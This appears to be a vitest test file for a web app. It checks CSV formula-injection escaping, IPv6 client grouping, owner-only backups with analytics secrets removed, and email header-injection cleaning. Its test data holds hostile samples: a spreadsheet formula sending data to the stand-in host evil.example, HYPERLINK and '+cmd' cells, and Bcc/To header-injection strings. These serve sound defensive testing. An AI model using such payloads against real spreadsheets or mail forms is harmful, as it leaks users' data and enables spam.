import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import SQLite from "better-sqlite3";
import { afterAll, describe, expect, it } from "vitest";
import { csvCell, toCsv } from "~/lib/csv";
import { clientNetwork } from "~/lib/proxy.server";
import { contactSchema } from "~/schemas/contact";
import { cleanLine } from "~/schemas/fields";

/** What leaves the server as a file (CSV exports, backups) and how clients are grouped (docs/decisions/0034-attack-run-2026-11-25.md). */

/** Cells of one CSV line as a spreadsheet splits it on `separator` when it ignores quotes (the worst reader). */
const naiveCells = (line: string, separator: string) => line.split(separator).map((cell) => cell.replace(/^"/, ""));

describe("CSV cells", () => {
  it("are all quoted, so a separator of any locale stays inside its cell", () => {
    expect(csvCell("plain")).toBe('"plain"');
    expect(csvCell(42)).toBe('"42"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell('say "hi", then go')).toBe('"say ""hi"", then go"');
    expect(toCsv(["id", "name"], [[1, "Sara"]])).toBe('\uFEFFid,name\r\n"1","Sara"\r\n');
  });

  it("make a formula inert at the start and after `;`, a tab or a line break", () => {
    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
    expect(csvCell("Question;=HYPERLINK(G2&E3)")).toBe(`"Question;'=HYPERLINK(G2&E3)"`);
    expect(csvCell("see attached\thttp://evil.example/?leak=\t=1+1")).toBe(`"see attached\thttp://evil.example/?leak=\t'=1+1"`);
    expect(csvCell("line one\n@SUM(A1)\r+2")).toBe(`"line one\n'@SUM(A1)\r'+2"`);
    expect(csvCell("\t=1")).toBe(`"'\t'=1"`);
    expect(csvCell("a;\t-3")).toBe(`"a;'\t'-3"`);
    // Text that only looks like a sum in the middle of a word is left alone.
    expect(csvCell("e-mail + phone = both")).toBe('"e-mail + phone = both"');
  });

  it("leave no cell starting with a formula character, whichever separator a spreadsheet splits on", () => {
    const row = ["Question;=HYPERLINK(G2&E3)", "see attached\thttp://evil.example/?leak=\t=1+1", ";+cmd", "\t\r@x", "-2;-3"];
    const line = row.map(csvCell).join(",");
    for (const separator of [",", ";", "\t"]) {
      for (const cell of naiveCells(line, separator)) expect(cell, JSON.stringify([separator, cell])).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe("client networks", () => {
  it("are an IPv4 address itself and an IPv6 address's /64", () => {
    expect(clientNetwork("203.0.113.7")).toBe("203.0.113.7");
    expect(clientNetwork("2001:db8::1")).toBe("2001:db8:0:0::/64");
    expect(clientNetwork("2001:db8::ffff:1:2:3")).toBe("2001:db8:0:0::/64");
    expect(clientNetwork("2001:db8:0:1::1")).toBe("2001:db8:0:1::/64");
    expect(clientNetwork("2001:db8:1:2:3:4:5:6")).toBe("2001:db8:1:2::/64");
    expect(clientNetwork("::1")).toBe("0:0:0:0::/64");
    expect(clientNetwork("someone@example.com")).toBe("someone@example.com");
  });
});

describe("npm run backup", { timeout: 60_000 }, () => {
  const folder = mkdtempSync(join(tmpdir(), "mahami-backup-"));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it("writes the copy for the owner only (0600), also over an older, wider file", () => {
    const source = join(folder, "live.db");
    const live = new SQLite(source);
    live.exec("create table notes (body text); insert into notes values ('kept')");
    live.close();
    for (const target of [join(folder, "new.db"), join(folder, "older.db")]) {
      if (target.endsWith("older.db")) writeFileSync(target, "", { mode: 0o644 });
      const result = spawnSync(process.execPath, ["node_modules/tsx/dist/cli.mjs", "app/cli/backup.ts", target], {
        env: { PATH: process.env.PATH, DATABASE_URL: `file:${source}`, SESSION_SECRET: "x".repeat(64) },
        encoding: "utf8",
      });
      expect(result.status, result.stdout + result.stderr).toBe(0);
      expect((statSync(target).mode & 0o777).toString(8)).toBe("600");
      const copy = new SQLite(target, { readonly: true });
      expect(copy.prepare("select body from notes").get()).toEqual({ body: "kept" });
      copy.close();
    }
  });

  it("leaves out the day's analytics salt and visitor hashes and the nodes' heartbeats, keeping the counts", () => {
    const source = join(folder, "with-analytics.db");
    const live = new SQLite(source);
    live.exec(`
      create table analytics_daily (day text, dimension text, value text, views integer, visitors integer);
      create table analytics_salts (day text primary key, salt text);
      create table analytics_visitors (day text, dimension text, value text, hash text);
      create table server_nodes (id text primary key, host text, pid integer, "startedAt" text, "lastSeenAt" text);
      insert into analytics_daily values ('2026-11-28', 'total', '', 3, 2);
      insert into analytics_salts values ('2026-11-28', 'SaltThatMustNotLeaveTheServer0123456789abc');
      insert into analytics_visitors values ('2026-11-28', 'total', '', 'VisitorHashInTheLiveDb');
      insert into server_nodes values ('node-1', 'box', 1, '2026-11-28T10:00:00Z', '2026-11-28T10:00:00Z');
    `);
    live.close();
    const target = join(folder, "without-analytics.db");
    const result = spawnSync(process.execPath, ["node_modules/tsx/dist/cli.mjs", "app/cli/backup.ts", target], {
      env: { PATH: process.env.PATH, DATABASE_URL: `file:${source}`, SESSION_SECRET: "x".repeat(64) },
      encoding: "utf8",
    });
    expect(result.status, result.stdout + result.stderr).toBe(0);
    // One file, its deletions folded in: nothing waits in a -wal beside it.
    expect(existsSync(`${target}-wal`)).toBe(false);
    const copy = new SQLite(target, { readonly: true });
    expect(copy.prepare("select views, visitors from analytics_daily").get()).toEqual({ views: 3, visitors: 2 });
    for (const table of ["analytics_salts", "analytics_visitors", "server_nodes"]) {
      expect(copy.prepare(`select count(*) as count from ${table}`).get(), table).toEqual({ count: 0 });
    }
    copy.close();
    // Not in the file's free pages either.
    const bytes = readFileSync(target).toString("latin1");
    expect(bytes).not.toContain("SaltThatMustNotLeaveTheServer");
    expect(bytes).not.toContain("VisitorHashInTheLiveDb");
  });
});

describe("one-line fields", () => {
  it("fold tabs and line breaks into one space, so a contact's name or subject cannot forge lines of a plain-text email", () => {
    expect(cleanLine("Sara\r\nBcc: victim@example.com")).toBe("Sara Bcc: victim@example.com");
    expect(cleanLine("a \t\n  b\u0000c")).toBe("a bc");
    const parsed = contactSchema.parse({
      name: "Sara\nBcc: victim@example.com",
      email: "sara@example.com",
      subject: "Question\r\nTo: everyone@example.com",
      message: "Line one\nLine two of the message",
    });
    expect(parsed).toMatchObject({
      name: "Sara Bcc: victim@example.com",
      subject: "Question To: everyone@example.com",
      message: "Line one\nLine two of the message",
    });
  });
});
